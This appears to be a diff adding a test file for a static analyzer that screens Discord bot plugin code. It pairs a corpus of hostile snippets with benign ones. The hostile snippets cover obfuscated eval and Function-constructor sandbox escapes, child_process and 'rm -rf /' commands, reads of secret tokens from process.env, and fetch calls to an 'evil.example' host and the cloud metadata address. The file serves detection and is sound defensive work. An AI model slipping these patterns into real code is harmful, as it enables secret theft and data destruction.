@@ -1,0 +1,228 @@
+// The forbidden-API corpus: hostile snippets (obfuscated ones included) must be caught with
+// the right rule; benign ones (ordinary plugin code, dangerous words in strings, methods
+// named like globals) must produce no finding at all.
+import { describe, expect, it } from "vitest";
+import { analyzeCode } from "../../../../actions/policy-check/src/rules/code/analyze.ts";
+import { addedFile, collector, context, modifiedFile } from "./helpers.ts";
+
+function rulesFor(code: string, path = "bot/plugins/demo/index.ts"): string[] {
+  const file = addedFile(path, code);
+  const { findings, emit } = collector();
+  analyzeCode(context([file]), file, emit);
+  return [...new Set(findings.map((f) => f.rule))].sort();
+}
+
+const hostile: [name: string, code: string, rule: string][] = [
+  ["direct eval", `eval("1 + 1");`, "api/eval"],
+  ["indirect eval (0, eval)", `(0, eval)("x");`, "api/eval"],
+  ["window.eval", `window.eval("x");`, "api/eval"],
+  ["globalThis.eval", `globalThis.eval("x");`, "api/eval"],
+  ["global.eval", `global.eval("x");`, "api/eval"],
+  ["globalThis['eval']", `globalThis["eval"]("x");`, "api/eval"],
+  ["concatenated key", `globalThis["ev" + "al"]("x");`, "api/eval"],
+  ["concatenated key is computed access", `globalThis["ev" + "al"]("x");`, "api/computed-access"],
+  ["template key", "globalThis[`ev${'al'}`]('x');", "api/eval"],
+  ["const string key", `const k = "ev" + "al"; globalThis[k]("x");`, "api/eval"],
+  ["non-literal key on globalThis", `const k = atob("ZXZhbA=="); globalThis[k]("x");`, "api/computed-access"],
+  ["non-literal key on process", `process[name]("x");`, "api/computed-access"],
+  ["non-literal key on Reflect", `Reflect[m](target, "x");`, "api/computed-access"],
+  ["non-literal key on Function", `Function[k];`, "api/computed-access"],
+  ["eval alias", `const e = eval;\nexport const y = e("2");`, "api/eval"],
+  ["eval via let reassignment", `let e;\ne = eval;\ne("x");`, "api/eval"],
+  ["eval through ||", `const f = (undefined || eval); f("x");`, "api/eval"],
+  ["eval through ternary", `(Math.random() > 2 ? eval : console.log)("x");`, "api/eval"],
+  ["eval bound", `eval.bind(null)("x");`, "api/eval"],
+  ["eval.call", `eval.call(null, "x");`, "api/eval"],
+  ["eval passed to Reflect.apply", `Reflect.apply(eval, null, ["x"]);`, "api/eval"],
+  ["eval in an array", `[eval][0]("x");`, "api/eval"],
+  ["eval as shorthand property", `const o = { eval }; o.eval("x");`, "api/eval"],
+  ["new Function", `new Function("return 1")();`, "api/function-constructor"],
+  ["Function call", `Function("return 1")();`, "api/function-constructor"],
+  ["globalThis.Function", `new globalThis.Function("x");`, "api/function-constructor"],
+  ["Function.prototype.constructor", `Function.prototype.constructor("x")();`, "api/function-constructor"],
+  ["arrow constructor", `(() => {}).constructor("return process")();`, "api/function-constructor"],
+  ["async function constructor", `(async function () {}).constructor("x");`, "api/function-constructor"],
+  ["getPrototypeOf async fn constructor", `const AF = Object.getPrototypeOf(async function () {}).constructor; new AF("x");`, "api/function-constructor"],
+  ["constructor.constructor", `[].constructor.constructor("return this")();`, "api/function-constructor"],
+  ["string constructor.constructor", `""["constructor"]["constructor"]("x")();`, "api/function-constructor"],
+  ["Reflect.construct(Function)", `Reflect.construct(Function, ["x"]);`, "api/function-constructor"],
+  ["setTimeout string", `setTimeout("doEvil()", 10);`, "api/implied-eval"],
+  ["setInterval template", "setInterval(`run(${x})`, 10);", "api/implied-eval"],
+  ["globalThis.setTimeout string", `globalThis.setTimeout("x", 1);`, "api/implied-eval"],
+  ["non-literal require", `const m = require(name);`, "api/dynamic-require"],
+  ["require passed around", `const load = [require][0]; load("child_process");`, "api/dynamic-require"],
+  ["non-literal import()", `await import(moduleName);`, "api/dynamic-import"],
+  ["createRequire", `import { createRequire } from "node:module";\nconst r = createRequire(import.meta.url);\nr("child_process");`, "api/create-require"],
+  ["createRequire imports module", `import { createRequire } from "module";`, "api/forbidden-module"],
+  ["createRequire then require child_process", `import { createRequire } from "node:module";\nconst r = createRequire(import.meta.url);\nr("child_process");`, "api/forbidden-module"],
+  ["module.constructor", `const M = module.constructor; M._load("x");`, "api/forbidden-member"],
+  ["module.require", `module.require("x");`, "api/forbidden-member"],
+  ["process.binding", `process.binding("spawn_sync");`, "api/forbidden-member"],
+  ["globalThis.process.binding", `globalThis.process.binding("fs");`, "api/forbidden-member"],
+  ["process.dlopen", `process.dlopen(m, "/tmp/x.node");`, "api/forbidden-member"],
+  ["destructured process.binding", `const { binding } = process;\nbinding("fs");`, "api/forbidden-member"],
+  ["process.mainModule.require", `process.mainModule.require("child_process");`, "api/forbidden-member"],
+  ["process.exit", `process.exit(1);`, "api/forbidden-member"],
+  ["import child_process", `import { exec } from "child_process";`, "api/forbidden-module"],
+  ["import node:child_process", `import * as cp from "node:child_process";`, "api/forbidden-module"],
+  ["require child_process destructured", `const { exec } = require("child_process");\nexec("rm -rf /");`, "api/forbidden-module"],
+  ["dynamic import vm", `const vm = await import("node:vm");`, "api/forbidden-module"],
+  ["require worker_threads", `const { Worker } = require("worker_threads");`, "api/forbidden-module"],
+  ["import cluster", `import cluster from "cluster";`, "api/forbidden-module"],
+  ["export from vm", `export { Script } from "node:vm";`, "api/forbidden-module"],
+  ["require with concatenated name", `require("child_" + "process");`, "api/forbidden-module"],
+  ["globalThis.require", `globalThis.require("vm");`, "api/forbidden-module"],
+  ["fs.writeFileSync", `import fs from "node:fs";\nfs.writeFileSync("/etc/x", "y");`, "api/fs-write"],
+  ["named writeFile", `import { writeFile } from "fs/promises";\nawait writeFile("x", "y");`, "api/fs-write"],
+  ["fs.promises.rm", `import * as fs from "fs";\nawait fs.promises.rm("/", { recursive: true });`, "api/fs-write"],
+  ["require fs unlink", `require("fs").unlinkSync("x");`, "api/fs-write"],
+  ["destructured from require fs", `const { appendFileSync: a } = require("node:fs");\na("x", "y");`, "api/fs-write"],
+  ["createWriteStream", `import { createWriteStream } from "node:fs";\ncreateWriteStream("out");`, "api/fs-write"],
+  ["fs.open for writing", `import fs from "fs";\nfs.openSync("x", "w");`, "api/fs-write"],
+  ["dynamic import fs then write", `const fs = await import("node:fs/promises");\nawait fs.mkdir("x");`, "api/fs-write"],
+  ["computed fs member", `import fs from "fs";\nfs[op]("x");`, "api/computed-access"],
+  ["fs write passed as callback", `import { rmSync } from "fs";\n["a"].forEach(rmSync);`, "api/fs-write"],
+  ["process.env secret", `const t = process.env.DISCORD_TOKEN;`, "api/env"],
+  ["process.env bracket", `const t = process.env["OPENAI_API_KEY"];`, "api/env"],
+  ["process.env computed", `const t = process.env[name];`, "api/env"],
+  ["process.env spread", `const all = { ...process.env };`, "api/env"],
+  ["Object.keys(process.env)", `console.log(Object.keys(process.env));`, "api/env"],
+  ["JSON.stringify(process.env)", `send(JSON.stringify(process.env));`, "api/env"],
+  ["process.env destructuring", `const { GITHUB_TOKEN } = process.env;`, "api/env"],
+  ["process.env rest destructuring", `const { NODE_ENV, ...rest } = process.env;`, "api/env"],
+  ["env alias", `const env = process.env;\nconsole.log(env.SECRET);`, "api/env"],
+  ["destructured env from process", `const { env } = process;\nenv.TOKEN;`, "api/env"],
+  ["node:process env import", `import { env } from "node:process";\nenv.TOKEN;`, "api/env"],
+  ["for-in over process.env", `for (const k in process.env) console.log(k);`, "api/env"],
+  ["fetch to other host", `await fetch("https://evil.example/steal");`, "api/network"],
+  ["fetch userinfo trick", `await fetch("https://discord.com@evil.example/");`, "api/network"],
+  ["fetch to non-literal URL", `await fetch(url);`, "api/network"],
+  ["fetch host continued by a variable", `await fetch("https://discord.com" + rest);`, "api/network"],
+  ["fetch through globalThis", `globalThis.fetch("http://169.254.169.254/latest/meta-data");`, "api/network"],
+  ["fetch alias", `const f = fetch;\nf("https://evil.example");`, "api/network"],
+  ["fetch new URL other host", `fetch(new URL("https://evil.example/x"));`, "api/network"],
+  ["https.get", `import https from "node:https";\nhttps.get("https://evil.example/");`, "api/network"],
+  ["http.request options", `import http from "http";\nhttp.request({ hostname: "evil.example", path: "/" });`, "api/network"],
+  ["http.createServer", `import { createServer } from "node:http";\ncreateServer(() => {}).listen(8080);`, "api/network"],
+  ["net module", `import net from "node:net";`, "api/network"],
+  ["dgram module", `const d = require("dgram");`, "api/network"],
+  ["WebSocket", `new WebSocket("wss://evil.example/socket");`, "api/network"],
+  ["XMLHttpRequest", `new XMLHttpRequest();`, "api/network"],
+  ["global object passed to Reflect.get", `Reflect.get(globalThis, key);`, "api/global-object"],
+  ["global object keys", `Object.getOwnPropertyNames(globalThis);`, "api/global-object"],
+  ["WebAssembly", `WebAssembly.instantiate(bytes);`, "api/forbidden-global"],
+  ["TS import = require", `import cp = require("child_process");`, "api/forbidden-module"],
+  ["setTimeout.call with a string", `setTimeout.call(null, "doEvil()", 1);`, "api/implied-eval"],
+  ["setTimeout.apply with a string", `setTimeout.apply(null, ["doEvil()", 1]);`, "api/implied-eval"],
+  ["fetch.call to other host", `fetch.call(globalThis, "https://evil.example/");`, "api/network"],
+  ["import from a data: URL", `await import("data:text/javascript,console.log(1)");`, "api/dynamic-import"],
+  ["import from https URL", `import x from "https://evil.example/x.js";`, "api/dynamic-import"],
+  ["process object passed around", `inspect(process);`, "api/global-object"],
+  ["require.extensions", `require.extensions[".txt"] = () => {};`, "api/forbidden-member"],
+  ["tagged template Function", "Function`return 1`;", "api/function-constructor"],
+  ["optional call of eval", `eval?.("x");`, "api/eval"],
+  ["destructured eval from globalThis", `const { eval: run } = globalThis;\nrun("x");`, "api/eval"],
+  ["destructured constructor from an arrow", `const { constructor: F } = () => {};\nF("x")();`, "api/function-constructor"],
+  ["describe.only", `describe.only("x", () => {});`, "tests/skip-only"],
+  ["it.skip", `it.skip("x", () => {});`, "tests/skip-only"],
+  ["test.skipIf", `test.skipIf(true)("x", () => {});`, "tests/skip-only"],
+  ["xit", `xit("x", () => {});`, "tests/skip-only"],
+  ["fit", `fit("x", () => {});`, "tests/skip-only"],
+  ["describe.concurrent.only", `describe.concurrent.only("x", () => {});`, "tests/skip-only"],
+];
+
+const benign: [name: string, code: string][] = [
+  ["dangerous words in strings", `const tip = "don't use eval, new Function or child_process";\nconst s = 'process.env.SECRET';`],
+  ["a method named evaluate", `class Calc { evaluate(expr: string) { return expr.length; } }\nnew Calc().evaluate("1+1");`],
+  ["eval as a user object member", `const parser = { eval: (s: string) => s.length };\nparser.eval("x");\nmath.eval("1 + 1");`],
+  ["property named constructor on this", `class A { name() { return this.constructor.name; } }`],
+  ["typeof eval / instanceof Function", `if (typeof eval === "function" && cb instanceof Function) {}\nconst g = typeof globalThis;`],
+  ["Function as a type", `type Cb = Function;\nlet f: Function = () => {};\ninterface X { run: Function }`],
+  ["allowed env vars", `const mode = process.env.NODE_ENV;\nconst tz = process.env["TZ"];\nconst { NODE_ENV } = process.env;`],
+  ["fetch to an allowed host", `await fetch("https://discord.com/api/v10/users/@me");\nawait fetch(\`https://cdn.discordapp.com/avatars/\${id}/\${hash}.png\`);`],
+  ["fetch to allowed host via const base", `const API = "https://discord.com/api/v10";\nawait fetch(\`\${API}/channels/\${id}\`);\nawait fetch(API + "/users/" + id);`],
+  ["fetch with new URL to allowed host", `await fetch(new URL("/api/v10/gateway", "https://discord.com"));`],
+  ["setTimeout with a function", `setTimeout(() => done(), 1000);\nsetInterval(tick, 500);\nsetTimeout(callback);`],
+  ["literal require and imports", `const path = require("node:path");\nimport { join } from "node:path";\nconst m = await import("./helper.ts");`],
+  ["fs reads", `import { readFileSync, promises } from "node:fs";\nreadFileSync("x", "utf8");\nawait promises.readFile("y");\nimport fs from "fs";\nfs.openSync("x", "r");\nfs.existsSync("z");`],
+  ["globalThis members with literal names", `globalThis.setTimeout(() => {}, 1);\nconst t = globalThis.structuredClone({});`],
+  ["ordinary discord.js plugin", `import { SlashCommandBuilder, EmbedBuilder } from "discord.js";
+import { definePlugin } from "../../core/plugin.ts";
+
+const ROLL = /^!roll (\\d+)$/;
+
+export default definePlugin({
+  name: "dice",
+  description: "Rolls dice",
+  commands: [
+    {
+      data: new SlashCommandBuilder()
+        .setName("roll")
+        .setDescription("Roll a die")
+        .addIntegerOption((o) => o.setName("sides").setDescription("Sides").setMinValue(2)),
+      async execute(interaction) {
+        const sides = interaction.options.getInteger("sides") ?? 6;
+        const value = 1 + Math.floor(Math.random() * sides);
+        const embed = new EmbedBuilder().setTitle("Dice").setDescription(\`You rolled \${value}\`);
+        await interaction.reply({ embeds: [embed] });
+      },
+    },
+  ],
+  responders: [{ name: "roll", trigger: ROLL, respond: (m) => String(1 + Math.floor(Math.random() * Number(ROLL.exec(m.content)?.[1] ?? 6))) }],
+  tools: [{ name: "roll", description: "roll", parameters: { type: "object" }, run: (args) => JSON.stringify(args) }],
+});`],
+  ["vitest test without skip/only", `import { describe, expect, it } from "vitest";\ndescribe("dice", () => { it("rolls", () => { expect(1).toBe(1); }); });\nit.each([1, 2])("case %i", (n) => {});\ntest.todo("later");`],
+  ["objects with keys named like dangerous APIs", `const o = { exec: 1, spawn: 2, binding: 3, env: {} };\nconst e = o.env.SECRET;\nconst { exec } = o;`],
+  ["local variables named like globals in members", `const cfg = { process: { env: { X: 1 } } };\ncfg.process.env.X;`],
+  ["array element access with variables", `const items = [1, 2];\nconst i = 0;\nitems[i];\nconst map: Record<string, number> = {};\nmap[key];`],
+  ["process members that are harmless", `console.log(process.version, process.platform, process.uptime());\nprocess.nextTick(() => {});\nprocess.on("warning", () => {});`],
+  ["JSX component", `export const App = () => <div className="x" onClick={() => setTimeout(() => {}, 1)}>{"eval"}</div>;`],
+];
+
+describe("forbidden APIs: hostile snippets are caught", () => {
+  it.each(hostile)("%s", (_name, code, rule) => {
+    const path = code.includes("<div") ? "bot/plugins/demo/index.tsx" : "bot/plugins/demo/index.ts";
+    expect(rulesFor(code, path)).toContain(rule);
+  });
+});
+
+describe("forbidden APIs: benign code passes", () => {
+  it.each(benign)("%s", (name, code) => {
+    const path = code.includes("<div") ? "bot/plugins/demo/index.tsx" : "bot/plugins/demo/index.ts";
+    expect(rulesFor(code, path), name).toEqual([]);
+  });
+});
+
+describe("forbidden APIs: only what changed", () => {
+  it("reports an old violation only when its line is touched", () => {
+    const before = `const e = eval;\nexport const a = 1;\n`;
+    const after = `const e = eval;\nexport const a = 2;\n`;
+    const file = modifiedFile("bot/plugins/demo/index.ts", before, after, [2]);
+    const { findings, emit } = collector();
+    analyzeCode(context([file]), file, emit);
+    expect(findings).toEqual([]);
+  });
+
+  it("sees an alias declared on an unchanged line when the use is added", () => {
+    const after = `const e = eval;\nexport const a = e("1");\n`;
+    const file = modifiedFile("bot/plugins/demo/index.ts", `const e = eval;\n`, after, [2]);
+    const { findings, emit } = collector();
+    analyzeCode(context([file]), file, emit);
+    expect(findings.map((f) => [f.rule, f.line])).toEqual([["api/eval", 2]]);
+  });
+
+  it("reports file, line and column of the offending expression", () => {
+    const file = addedFile("bot/plugins/demo/index.ts", `const x = 1;\n  globalThis.eval("x");\n`);
+    const { findings, emit } = collector();
+    analyzeCode(context([file]), file, emit);
+    expect(findings).toEqual([
+      { rule: "api/eval", severity: "error", file: "bot/plugins/demo/index.ts", line: 2, column: 3, message: expect.stringContaining("eval") },
+    ]);
+  });
+
+  it("analyses .js, .mjs, .cjs and .jsx files too", () => {
+    for (const ext of ["js", "mjs", "cjs", "jsx", "mts", "cts"]) {
+      expect(rulesFor(`require("child_process");`, `bot/plugins/demo/x.${ext}`), ext).toEqual(["api/forbidden-module"]);
+    }
+  });
+});
